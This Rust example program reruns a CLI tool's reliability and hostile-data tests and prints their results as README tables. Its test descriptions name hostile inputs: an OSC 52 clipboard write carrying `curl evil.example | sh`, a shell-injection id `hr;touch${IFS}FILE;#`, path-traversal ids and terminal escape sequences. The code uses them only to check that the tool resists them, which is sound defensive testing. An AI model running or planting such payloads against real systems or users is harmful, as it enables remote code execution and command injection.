//! Reruns the reliability and hostile-data scenarios (the same code the tests assert on) and
//! prints the README's "Reliability" and "Hostile data" tables:
//! `cargo run --release --example reliability`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::cast_precision_loss)]

// The scenarios are the integration tests' own; this runner uses only part of their helpers.
#[allow(dead_code)]
#[path = "../tests/it/support/mod.rs"]
mod support;

use std::path::{Path, PathBuf};
#[cfg(unix)]
use std::time::Duration;
use std::time::Instant;

#[cfg(unix)]
use support::hostile::{self, Held, TABLE_WIDTH};
use support::reliability::{self, INTERRUPTIONS};

/// The `peoplectl` binary of the same profile, built first when missing.
fn peoplectl_binary() -> PathBuf {
    let exe = std::env::current_exe().expect("own path");
    // target/<profile>/examples/reliability -> target/<profile>/peoplectl
    let dir = exe.parent().and_then(Path::parent).expect("target dir");
    binary_in(dir, dir.ends_with("release"))
}

/// The debug build's binary, built first when missing: only it honours the panic trigger.
#[cfg(unix)]
fn debug_binary() -> PathBuf {
    let release = peoplectl_binary();
    let target = release.parent().and_then(Path::parent).expect("target dir");
    binary_in(&target.join("debug"), false)
}

fn binary_in(dir: &Path, release: bool) -> PathBuf {
    let bin = dir.join(format!("peoplectl{}", std::env::consts::EXE_SUFFIX));
    if !bin.exists() {
        let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
        let mut cmd = std::process::Command::new(cargo);
        cmd.args(["build", "--bin", "peoplectl"]);
        if release {
            cmd.arg("--release");
        }
        let status = cmd.status().expect("cargo runs");
        assert!(status.success(), "building peoplectl failed");
    }
    bin
}

/// Which tables to print.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Only {
    Both,
    Reliability,
    Hostile,
}

fn args() -> (usize, Only) {
    let mut args = std::env::args().skip(1);
    let mut runs = 3;
    let mut only = Only::Both;
    while let Some(a) = args.next() {
        match a.as_str() {
            "--runs" => runs = args.next().and_then(|n| n.parse().ok()).unwrap_or(runs),
            "--quick" => runs = 1,
            "--only" => {
                only = match args.next().as_deref() {
                    Some("reliability") => Only::Reliability,
                    Some("hostile") => Only::Hostile,
                    _ => usage("--only takes reliability or hostile"),
                }
            }
            other => usage(&format!("unknown: {other}")),
        }
    }
    (runs.max(1), only)
}

fn usage(why: &str) -> ! {
    eprintln!("usage: reliability [--runs N | --quick] [--only reliability|hostile] ({why})");
    std::process::exit(2);
}

fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() {
    let (runs, only) = args();
    let bin = peoplectl_binary();
    let started = Instant::now();
    // Two minutes of waiting on a silent Graph with the default deadline: alongside the rest.
    #[cfg(unix)]
    let default_wait = (only != Only::Reliability).then(|| {
        let bin = bin.clone();
        tokio::spawn(async move {
            hostile::held_by_silence(&bin, "PEOPLECTL_GRAPH_URL", &["connections", "list"]).await
        })
    });
    if only != Only::Hostile {
        reliability_table(&bin, runs).await;
    }
    #[cfg(unix)]
    if let Some(default_wait) = default_wait {
        hostile_table(&bin, runs, default_wait).await;
    }
    println!(
        "\nThe whole command took {:.0} s (`cargo run{} --example reliability --{}`).",
        started.elapsed().as_secs_f64(),
        if cfg!(debug_assertions) {
            ""
        } else {
            " --release"
        },
        std::env::args()
            .skip(1)
            .map(|a| format!(" {a}"))
            .collect::<Vec<_>>()
            .concat()
    );
}

/// The fault scenarios of `support::reliability`.
async fn reliability_table(bin: &Path, runs: usize) {
    let started = Instant::now();
    let mut rows: Vec<[String; 5]> = Vec::new();

    // 1. Storms.
    let (mut requests, mut faulted, mut lost, mut items) = (0u64, 0u64, 0usize, 0u64);
    let mut kinds = [0u64; 4];
    for _ in 0..runs {
        let o = reliability::storm_sync(5_000).await;
        let i = o.injected;
        requests += i.requests;
        faulted += i.total();
        kinds[0] += i.throttled;
        kinds[1] += i.server_errors;
        kinds[2] += i.dropped;
        kinds[3] += i.lost_answers;
        items += o.first.put + o.second.put + o.second.deleted;
        lost += o.drift_after_first.lost() + o.drift_after_second.lost();
        lost += usize::try_from(o.first.failed + o.second.failed + o.third_puts + o.third_deletes)
            .unwrap_or(usize::MAX);
        eprintln!("storm: {:?} {:?}", o.injected, o.drift_after_second);
    }
    rows.push([
        "Sync of 5,000 people, then 2% joiners, 2% leavers, 10% changed, through storms of 429/503/504, dropped connections, lost answers and 200 ms spikes".into(),
        runs.to_string(),
        format!(
            "{} of {} item requests ({:.1}%): {} 429, {} 5xx, {} dropped, {} applied but unanswered",
            thousands(faulted),
            thousands(requests),
            100.0 * faulted as f64 / requests.max(1) as f64,
            thousands(kinds[0]),
            thousands(kinds[1]),
            thousands(kinds[2]),
            thousands(kinds[3]),
        ),
        format!("{} writes", thousands(items)),
        lost.to_string(),
    ]);

    // 2. SIGKILL and resume.
    let (mut kills, mut lost, mut resent, mut people) = (0usize, 0usize, 0usize, 0usize);
    let mut points = Vec::new();
    for _ in 0..runs {
        let o = reliability::kill_and_resume(bin, 3_000, 3).await;
        kills += o.kills.len();
        points.extend(o.kills.iter().map(|k| k.recorded));
        resent += o.kills.iter().map(|k| k.resent).sum::<usize>() + o.resent_at_end;
        lost += o.drift.lost() + o.last_run_writes + (o.people - o.recorded_at_end);
        lost += usize::from(!o.last_run_ok);
        people += o.people;
    }
    points.sort_unstable();
    rows.push([
        "`peoplectl sync` SIGKILLed at random instants, then run again".into(),
        runs.to_string(),
        format!(
            "{kills} SIGKILLs, after {} to {} items were recorded",
            thousands(points.first().copied().unwrap_or(0) as u64),
            thousands(points.last().copied().unwrap_or(0) as u64)
        ),
        format!(
            "{} people; recorded items sent again: {resent}",
            thousands(people as u64)
        ),
        lost.to_string(),
    ]);

    // 3. Removal interrupted inside each step.
    let (mut cases, mut bad, mut dangling, mut moments) = (0usize, 0usize, 0usize, 0usize);
    for _ in 0..runs {
        for step in 0..3 {
            for how in INTERRUPTIONS {
                let o = reliability::interrupted_removal(step, how).await;
                cases += 1;
                dangling += o.dangling_moments;
                moments += o.moments;
                if o.rerun_error.is_some()
                    || !o.rerun_all_done
                    || !o.connector_gone
                    || !o.others_untouched
                {
                    bad += 1;
                    eprintln!("removal went wrong: {o:?}");
                }
            }
        }
    }
    rows.push([
        "Connector removal with each step (precedence, source, connection) hit by an outage, dropped connections, a lost answer or 429s, then run again".into(),
        cases.to_string(),
        format!("{cases} faulted steps; precedence naming a deleted source: {dangling} of {moments} observed states"),
        "3 objects per removal; other connectors untouched".into(),
        bad.to_string(),
    ]);

    // 4. The binary killed between removal steps.
    let (mut cases, mut bad) = (0usize, 0usize);
    for _ in 0..runs {
        for step in 0..2 {
            let o = reliability::killed_removal(bin, step).await;
            cases += 1;
            if !(o.killed_before_the_end && o.rerun_ok && o.connector_gone)
                || o.dangling_moments > 0
            {
                bad += 1;
                eprintln!("killed removal went wrong: {o:?}");
            }
        }
    }
    rows.push([
        "`peoplectl remove --yes` SIGKILLed after step 1 and after step 2, then run again".into(),
        cases.to_string(),
        format!("{cases} SIGKILLs"),
        "3 objects per removal".into(),
        bad.to_string(),
    ]);

    // 5. Two admins at once.
    let (mut cases, mut refused, mut bad) = (0usize, 0usize, 0usize);
    for _ in 0..runs * 3 {
        let o = reliability::two_admins().await;
        cases += 1;
        if o.refusal == Some((true, true)) {
            refused += 1;
        }
        if o.landed != 1 || !o.winner_holds || o.other_error.is_some() {
            bad += 1;
            eprintln!("two admins went wrong: {o:?}");
        }
    }
    rows.push([
        "Two admins move precedence entries at the same moment".into(),
        cases.to_string(),
        format!("{cases} races; refused with both lists shown: {refused}"),
        "1 list".into(),
        bad.to_string(),
    ]);

    println!("| Scenario | Runs | Faults injected | Items | Lost |");
    println!("|---|---:|---|---|---:|");
    for [a, b, c, d, e] in &rows {
        println!("| {a} | {b} | {c} | {d} | {e} |");
    }
    println!(
        "\n{runs} runs each, {:.0} s.",
        started.elapsed().as_secs_f64()
    );
}

/// What a deadline may be overrun by before the wait counts as harm: the process starting
/// and signing in, which the deadline (per call) does not cover.
#[cfg(unix)]
const OVERRUN: Duration = Duration::from_secs(1);

/// "0.10 s", or "0.10–0.24 s" over several runs.
#[cfg(unix)]
fn span(times: &[Duration]) -> String {
    let secs = |d: &Duration| d.as_secs_f64();
    let low = times.iter().map(secs).fold(f64::INFINITY, f64::min);
    let high = times.iter().map(secs).fold(0.0, f64::max);
    let digits = if high < 10.0 { 2 } else { 1 };
    if format!("{low:.digits$}") == format!("{high:.digits$}") {
        format!("{high:.digits$} s")
    } else {
        format!("{low:.digits$}–{high:.digits$} s")
    }
}

/// The tries an error message counts: "... (4 tries in 2 min ...".
#[cfg(unix)]
fn tries(text: &str) -> Option<u32> {
    let end = text.find(" tries in ").or_else(|| text.find(" try in "))?;
    let start = text[..end].rfind('(')? + 1;
    text[start..end].parse().ok()
}

/// What runs held by a silent server came to.
#[cfg(unix)]
struct HeldRuns {
    /// Ended past their deadline (plus [`OVERRUN`]), not with exit 1, unexplained, or
    /// showing the secret.
    harm: usize,
    /// Errors that said what did not answer, the timeout or deadline, and the tries.
    explained: usize,
    tries: Vec<u32>,
    took: String,
}

#[cfg(unix)]
fn held_runs(held: &[&Held], deadline: &str, timeout: &str) -> HeldRuns {
    let mut o = HeldRuns {
        harm: 0,
        explained: 0,
        tries: Vec::new(),
        took: span(&held.iter().map(|h| h.took).collect::<Vec<_>>()),
    };
    for h in held {
        let text = hostile::stderr(&h.out);
        let explained = text.contains(&format!(
            ": sign-in failed: no token within the {deadline} deadline of this call"
        )) || hostile::deadline_explained(&text, deadline, timeout);
        o.explained += usize::from(explained);
        if h.took > h.deadline + OVERRUN
            || h.out.status.code() != Some(1)
            || !explained
            || text.contains(&h.secret)
        {
            o.harm += 1;
            eprintln!(
                "held past its deadline or unexplained ({:?}): {text}",
                h.took
            );
        }
        o.tries.extend(tries(&text));
    }
    o
}

/// "1 buffer", "2 buffers".
#[cfg(unix)]
fn plural(n: usize, what: &str) -> String {
    if n == 1 {
        format!("1 {what}")
    } else {
        format!("{n} {what}s")
    }
}

#[cfg(unix)]
fn range<T: Ord + Copy + std::fmt::Display>(values: &[T]) -> String {
    match (values.iter().min(), values.iter().max()) {
        (Some(low), Some(high)) if low == high => low.to_string(),
        (Some(low), Some(high)) => format!("{low}–{high}"),
        _ => "?".into(),
    }
}

/// The hostile-data scenarios of `support::hostile`, each row computed from what they observed.
#[cfg(unix)]
async fn hostile_table(bin: &Path, runs: usize, default_wait: tokio::task::JoinHandle<Held>) {
    struct Row {
        attack: String,
        place: String,
        runs: usize,
        observed: String,
        harm: usize,
        counts: &'static str,
    }
    let started = Instant::now();
    let mut rows = Vec::new();

    // 1. Hostile names through the CLI's read commands.
    let reads = hostile::read_commands(bin).await;
    let controls: usize = reads.iter().map(hostile::ReadCommand::raw_controls).sum();
    let tables: Vec<_> = reads.iter().filter(|r| r.is_table()).collect();
    let widest = tables.iter().map(|r| r.widest_line()).max().unwrap_or(0);
    let too_wide = tables
        .iter()
        .flat_map(|r| r.table_lines())
        .filter(|l| unicode_width::UnicodeWidthStr::width(l.as_str()) > TABLE_WIDTH)
        .count();
    let kept: Vec<bool> = reads
        .iter()
        .filter_map(hostile::ReadCommand::keeps_the_name)
        .collect();
    let exact = kept.iter().filter(|k| **k).count();
    let crashed = reads
        .iter()
        .filter(|r| !matches!(r.table.status.code(), Some(0 | 3)) || r.doc().is_err())
        .count();
    rows.push(Row {
        attack: "Names holding an OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0 \
                 title, a screen clear, a bidi override, a C1 CSI and shell syntax, on a \
                 connection and two profile sources created through Graph"
            .into(),
        place: format!(
            "{}: tables and `-o json`",
            hostile::READ_COMMANDS
                .iter()
                .map(|args| format!("`{}`", args.join(" ")))
                .collect::<Vec<_>>()
                .join(", ")
        ),
        runs: 1,
        observed: format!(
            "{} outputs: raw control characters {controls}; widest table line {widest} of \
             {TABLE_WIDTH} columns; names exact in JSON: {exact} of {}; crashes {crashed}",
            reads.len() * 2,
            kept.len()
        ),
        harm: controls + too_wide + (kept.len() - exact) + crashed,
        counts: "controls emitted, lines too wide, names altered, crashes",
    });

    // 2. Doctor's fix lines pasted into sh.
    let paste = hostile::doctor_fix_pasted(bin).await;
    let intended = paste.pastes.iter().filter(|p| p.argv == p.want).count();
    let in_table = paste.pastes.iter().filter(|p| p.in_table).count();
    let failed = paste
        .pastes
        .iter()
        .filter(|p| !p.sh.status.success())
        .count();
    rows.push(Row {
        attack: "A profile source id `hr;touch${IFS}FILE;#`, and one named `--yes`".into(),
        place: "`doctor`'s fix lines (table and JSON), pasted into `sh` with `peoplectl` a \
                recorder"
            .into(),
        runs: 1,
        observed: format!(
            "{} lines pasted (the table's {in_table} the same as JSON's): argv as intended {intended} \
             of {}, `sh` failed {failed}; FILE created: {}",
            paste.pastes.len(),
            paste.pastes.len(),
            if paste.planted_ran { "yes" } else { "no" }
        ),
        harm: paste.pastes.len() - intended + usize::from(paste.planted_ran),
        counts: "commands run that were not intended",
    });

    // 3. The console under tmux.
    let (mut walks, mut buffers, mut retitled, mut shown) = (0, 0, 0, 0);
    let (mut control_buffers, mut control_title) = (0, String::new());
    for _ in 0..runs {
        let o = hostile::console_under_tmux(bin).await;
        control_buffers += o.control_buffers.lines().count();
        control_title = peoplectl::text::shown(&o.control_title).into_owned();
        for run in &o.runs {
            walks += 1;
            buffers += run.buffers.lines().count();
            retitled += usize::from(run.title_after != run.title_before);
            shown += run.panes.iter().filter(|s| s.contains("pwned\n")).count();
        }
    }
    rows.push(Row {
        attack: "The same names".into(),
        place: "The console under tmux with `set-clipboard on`, at 80×24 and 60×20, every pane"
            .into(),
        runs,
        observed: format!(
            "{walks} walks: clipboard buffers set {buffers}, window retitled {retitled}; the same \
             tmux, sent the raw sequences, filled {} and took the title \"{control_title}\"",
            plural(control_buffers, "buffer")
        ),
        harm: buffers + retitled + shown,
        counts: "clipboard writes, title changes",
    });

    // 4. A hostile HR export, synced for real.
    let export = hostile::hostile_export(bin).await;
    let reported = export.reported();
    // The demo export's own valid rows, less the ones planted in.
    let good = export.clean_valid - export.planted.len() as u64;
    let output_controls = [
        &export.json.stdout,
        &export.json.stderr,
        &export.text.stdout,
        &export.text.stderr,
    ]
    .iter()
    .map(|s| hostile::raw_controls(s).len())
    .sum::<usize>();
    rows.push(Row {
        attack: format!(
            "An HR export with cells holding {}; rows with {}",
            export
                .planted
                .iter()
                .filter(|p| p.column.is_some())
                .map(|p| p.what)
                .collect::<Vec<_>>()
                .join(", "),
            export
                .planted
                .iter()
                .filter(|p| p.column.is_none())
                .map(|p| p.what)
                .collect::<Vec<_>>()
                .join(", ")
        ),
        place: "`peoplectl sync` of the demo export with them planted, then `--dry-run` as text"
            .into(),
        runs: 1,
        observed: format!(
            "reported with their line (and column): {reported} of {}; the other rows valid: {} \
             of {good}; items in Graph {}, holding a control character {}; raw control \
             characters in the output {output_controls}",
            export.planted.len(),
            export.valid(),
            export.items,
            export.unsafe_items.len()
        ),
        harm: export.planted.len() - reported
            + export.unsafe_items.len()
            + output_controls
            + usize::try_from(good.abs_diff(export.valid())).unwrap(),
        counts: "bad values sent or unreported, good rows lost, controls emitted",
    });

    // 5. Random bytes through the readers.
    let mut fuzz = hostile::FuzzOutcome::default();
    for _ in 0..runs {
        let o = hostile::reader_fuzz(rand::random(), 2_000);
        fuzz.inputs += o.inputs;
        fuzz.refused += o.refused;
        fuzz.rows += o.rows;
        fuzz.bad_rows += o.bad_rows;
        fuzz.panics += o.panics;
        fuzz.disorder += o.disorder;
    }
    rows.push(Row {
        attack: "Random bytes (quotes, commas, CR/LF, a BOM, NUL, invalid UTF-8), and the demo \
                 export with random bytes changed"
            .into(),
        place: "The CSV and JSON Lines readers, in process".into(),
        runs,
        observed: format!(
            "{} inputs, each read both ways: {} rows, {} bad rows named by line, {} refused \
             whole; panics {}, out of order {}",
            thousands(fuzz.inputs as u64),
            thousands(fuzz.rows),
            thousands(fuzz.bad_rows),
            thousands(fuzz.refused as u64),
            fuzz.panics,
            fuzz.disorder
        ),
        harm: fuzz.panics + fuzz.disorder,
        counts: "panics, rows out of order",
    });

    // 6. A Graph that never answers: the binary.
    let (mut flagged, mut context, mut sign_in) = (Vec::new(), Vec::new(), Vec::new());
    for _ in 0..runs {
        flagged.push(
            hostile::held_by_silence(
                bin,
                "PEOPLECTL_GRAPH_URL",
                &["connections", "list", "--timeout", "1", "--deadline", "3"],
            )
            .await,
        );
        context.push(hostile::context_timeouts(bin).await);
        sign_in.push(
            hostile::held_by_silence(
                bin,
                "PEOPLECTL_AUTHORITY_URL",
                &["doctor", "--timeout", "1", "--deadline", "3"],
            )
            .await,
        );
    }
    let flagged = held_runs(&flagged.iter().collect::<Vec<_>>(), "3 s", "1 s");
    let lists = held_runs(
        &context.iter().map(|c| &c.list).collect::<Vec<_>>(),
        "2 s",
        "500 ms",
    );
    let defaults = held_runs(&[&default_wait.await.unwrap()], "2 min", "30 s");
    let all = [&flagged, &lists, &defaults];
    rows.push(Row {
        attack: "A Graph that accepts TLS and never answers".into(),
        place: "`connections list --timeout 1 --deadline 3`; the same with a context's \
                `timeout = 0.5`, `deadline = 2`; with the defaults (30 s, 2 min)"
            .into(),
        runs,
        observed: format!(
            "ended after {}, {} tries; {}, {} tries; {}, {} tries; errors naming what did not \
             answer, the timeout, the deadline and the tries: {} of {}",
            flagged.took,
            range(&flagged.tries),
            lists.took,
            range(&lists.tries),
            defaults.took,
            range(&defaults.tries),
            all.iter().map(|h| h.explained).sum::<usize>(),
            2 * runs + 1
        ),
        harm: all.iter().map(|h| h.harm).sum(),
        counts: "waits past the deadline, unexplained ends",
    });
    let sign_in = held_runs(&sign_in.iter().collect::<Vec<_>>(), "3 s", "1 s");
    rows.push(Row {
        attack: "An identity platform that accepts TLS and never answers".into(),
        place: "`doctor --timeout 1 --deadline 3`".into(),
        runs,
        observed: format!(
            "ended after {}; errors saying sign-in got no token within the deadline: {} of {runs}",
            sign_in.took, sign_in.explained
        ),
        harm: sign_in.harm,
        counts: "waits past the deadline, unexplained ends",
    });

    // 7. The same, in the client.
    let (mut one, mut retried, mut asked, mut harm) = (Vec::new(), Vec::new(), Vec::new(), 0);
    let mut retried_tries = Vec::new();
    for _ in 0..runs {
        let o = hostile::one_unanswered_request().await;
        harm += usize::from(o.took > Duration::from_millis(300) + OVERRUN);
        one.push(o.took);
        let o = hostile::silent_graph_retried(Duration::from_millis(1500)).await;
        let notices_ok = hostile::transport(&o.call.error)
            .is_some_and(|(_, tries)| o.notices.len() + 1 == tries as usize);
        harm += usize::from(o.call.took > o.deadline + OVERRUN || !notices_ok);
        retried_tries.extend(hostile::transport(&o.call.error).map(|(_, t)| t));
        retried.push(o.call.took);
        let o = hostile::retry_after_past_the_deadline().await;
        harm += usize::from(o.took >= Duration::from_secs(5) || !o.error.is_throttled());
        asked.push(o.took);
    }
    rows.push(Row {
        attack: "The same silent Graph; a Graph answering 429 with `Retry-After: 30`".into(),
        place: "The Graph client: one 300 ms try; 300 ms tries under a 1.5 s deadline; the 429s \
                under a 5 s deadline"
            .into(),
        runs,
        observed: format!(
            "gave up after {}; after {}, {} tries, each reported as it retried; after {}, \
             not waiting the 30 s the deadline could not hold",
            span(&one),
            span(&retried),
            range(&retried_tries),
            span(&asked)
        ),
        harm,
        counts: "waits past the deadline",
    });

    // 8. Servers that are not Graph.
    let impostors = hostile::impostors().await;
    let refusals: Vec<Option<(String, u32)>> = [
        &impostors.other_host,
        &impostors.other_ca,
        &impostors.unknown_ca,
    ]
    .iter()
    .map(|e| hostile::transport(e))
    .collect();
    let at_once = refusals
        .iter()
        .filter(|r| {
            r.as_ref().is_some_and(|(reason, tries)| {
                *tries == 1 && reason.starts_with("TLS handshake failed")
            })
        })
        .count();
    rows.push(Row {
        attack: "A TLS server with a certificate for another host, from another CA of the same \
                 name, or from no CA the system knows"
            .into(),
        place: "The Graph client".into(),
        runs: 1,
        observed: format!(
            "refused on the first try, the reason named: {at_once} of {}",
            refusals.len()
        ),
        harm: refusals.len() - at_once,
        counts: "servers trusted or retried",
    });

    // 9. Inputs that are not files.
    let mut not_files = Vec::new();
    for _ in 0..runs {
        not_files.extend(hostile::not_files(bin).await);
    }
    let refused = not_files
        .iter()
        .filter(|c| c.out.status.code() == Some(1) && hostile::stderr(&c.out) == c.expected)
        .count();
    let slow = not_files
        .iter()
        .filter(|c| c.took > Duration::from_secs(1))
        .count();
    rows.push(Row {
        attack: "`/dev/zero`, a FIFO without a writer, a socket, a directory as the HR export"
            .into(),
        place: "`peoplectl --demo sync contosohr --input X --dry-run`".into(),
        runs,
        observed: format!(
            "refused naming what it is: {refused} of {}, after {} (emulator start included)",
            not_files.len(),
            span(&not_files.iter().map(|c| c.took).collect::<Vec<_>>())
        ),
        harm: not_files.len() - refused + slow,
        counts: "inputs read, or refused after more than 1 s",
    });

    // 10. Files others could read.
    let umask = hostile::under_umask(bin).await;
    let open = hostile::state_while_open();
    let secret = hostile::loose_secret_file(bin).await;
    let loose = |mode: u32| usize::from(mode & 0o077 != 0);
    let files: Vec<u32> = umask
        .written
        .iter()
        .filter(|(_, d, _)| !d)
        .map(|(_, _, m)| *m)
        .collect();
    let dirs: Vec<u32> = umask
        .written
        .iter()
        .filter(|(_, d, _)| *d)
        .map(|(_, _, m)| *m)
        .collect();
    // The shared-memory file exists only on some systems.
    let open_modes: Vec<u32> = [Some(open.file), Some(open.wal), open.shm]
        .into_iter()
        .flatten()
        .chain(open.dirs)
        .chain([open.reopened])
        .collect();
    let failed = umask
        .runs
        .iter()
        .filter(|(args, out)| !args.is_empty() && !out.status.success())
        .count();
    let said = hostile::stderr(&secret.add).contains("peoplectl made it private (mode 600)");
    rows.push(Row {
        attack: "A login shell's `umask 022`; a sync state file and a client secret file left \
                 readable by others"
            .into(),
        place: "`sync` (state and WAL), `auth login` (token cache), `config add`, the console's \
                log; the state store while open and reopened; `config add --secret-file`, then \
                sign-in"
            .into(),
        runs: 1,
        observed: format!(
            "files 0600: {} of {}, directories 0700: {} of {}; the state, its WAL and \
             directories while open, then the reopened 0644 state: {}; the 0644 secret file: \
             {:04o} (said so: {}), loosened again: {:04o} after sign-in; commands failed {failed}",
            files.iter().filter(|m| **m == 0o600).count(),
            files.len(),
            dirs.iter().filter(|m| **m == 0o700).count(),
            dirs.len(),
            open_modes
                .iter()
                .map(|m| format!("{m:04o}"))
                .collect::<Vec<_>>()
                .join(", "),
            secret.after_add,
            if said { "yes" } else { "no" },
            secret.after_list,
        ),
        harm: files.iter().chain(&dirs).map(|m| loose(*m)).sum::<usize>()
            + open_modes.iter().map(|m| loose(*m)).sum::<usize>()
            + loose(secret.after_add)
            + loose(secret.after_list),
        counts: "files others can read",
    });

    // 11. Ids no Graph key can be.
    let ids = hostile::bad_ids(bin).await;
    let refused = ids
        .cases
        .iter()
        .filter(|c| c.out.status.code() == Some(2) && hostile::stderr(&c.out) == c.expected)
        .count()
        + usize::from(
            ids.control.status.code() == Some(2)
                && hostile::raw_controls(&ids.control.stderr).is_empty(),
        );
    let cases = ids.cases.len() + 1;
    rows.push(Row {
        attack: "Ids `.`, `..`, `%2e%2E`, `a/b/c`, `alex`, `contosohr,..` and one holding an OSC \
                 52 sequence"
            .into(),
        place: format!(
            "`profile show`, `connections show`/`delete`, `sources remove`/`register`, \
             `precedence move`/`set`, `remove`, `sync`: {cases} runs"
        ),
        runs: 1,
        observed: format!(
            "refused with exit 2 and the reason: {refused} of {cases}; requests that reached \
             Graph: {} (a good id then: {})",
            ids.requests, ids.good_requests
        ),
        harm: usize::try_from(ids.requests).unwrap() + cases - refused,
        counts: "requests sent for a bad id, ids not refused",
    });

    // 12. A precedence entry no source id names.
    let entry = hostile::unnamed_precedence_entry(bin).await;
    let said = |out: &std::process::Output| hostile::stderr(out).contains("rank 2: ");
    let unchanged = |list: &Vec<String>| {
        if *list == entry.urls {
            "unchanged"
        } else {
            "changed"
        }
    };
    let silently_dropped = usize::from(entry.refused.1 != entry.urls)
        + usize::from(entry.dry_run.1 != entry.urls)
        + usize::from(!said(&entry.yes.0));
    rows.push(Row {
        attack: "A precedence entry no source id can name".into(),
        place: "`precedence set` with no terminal to ask on, with `--dry-run`, with `--yes`".into(),
        runs: 1,
        observed: format!(
            "without `--yes`: exit {}, the list {}; `--dry-run`: exit {}, the list {}; `--yes`: \
             exit {}, the entry named ({}) and {}",
            entry.refused.0.status.code().unwrap_or(-1),
            unchanged(&entry.refused.1),
            entry.dry_run.0.status.code().unwrap_or(-1),
            unchanged(&entry.dry_run.1),
            entry.yes.0.status.code().unwrap_or(-1),
            if said(&entry.yes.0) { "yes" } else { "no" },
            if entry.yes.1.iter().any(|u| u == entry.odd) {
                "kept"
            } else {
                "dropped"
            },
        ),
        harm: silently_dropped,
        counts: "entries dropped without saying so",
    });

    // 13. The emulator off loopback.
    let exposure = hostile::emulator_exposure(bin).await;
    let warned = hostile::exposure_warning(&exposure.exposed)
        .is_some_and(|w| w.contains("can sign in with the AZURE_CLIENT_SECRET printed on stdout"));
    let false_alarm = exposure.loopback.contains("WARNING");
    rows.push(Row {
        attack: "The emulator bound to every address".into(),
        place: "`peoplectl emulator --bind 0.0.0.0:0`, and `127.0.0.1:0`".into(),
        runs: 1,
        observed: format!(
            "warned, naming the address and the printed secret: {}; on loopback: {}",
            if warned { "yes" } else { "no" },
            if false_alarm { "warned" } else { "silent" }
        ),
        harm: usize::from(!warned) + usize::from(false_alarm),
        counts: "exposures not warned of",
    });

    // 14. A panic in a pipe (the trigger exists in debug builds only).
    let panic = hostile::panic_in_a_pipe(&debug_binary()).await;
    let escapes = hostile::stderr(&panic.out).matches('\u{1b}').count();
    rows.push(Row {
        attack: "A panic while stderr is a pipe".into(),
        place: "`doctor` with a debug build's `PEOPLECTL_DEBUG_PANIC`".into(),
        runs: 1,
        observed: format!(
            "exit {}, escape bytes in the report {escapes}",
            panic.out.status.code().unwrap_or(-1)
        ),
        harm: escapes,
        counts: "escape bytes emitted",
    });

    println!("\n| Attack | Where it was tried | Runs | What was observed | Harm |");
    println!("|---|---|---:|---|---:|");
    // A `|` inside a cell would end it.
    let cell = |text: &str| text.replace('|', "\\|");
    for r in &rows {
        println!(
            "| {} | {} | {} | {} | {} ({}) |",
            cell(&r.attack),
            cell(&r.place),
            r.runs,
            cell(&r.observed),
            r.harm,
            r.counts
        );
    }
    println!(
        "\n{} where repeating adds anything, {:.0} s; the two-minute run with the default \
         deadline starts with the command and runs alongside.",
        plural(runs, "run"),
        started.elapsed().as_secs_f64()
    );
}
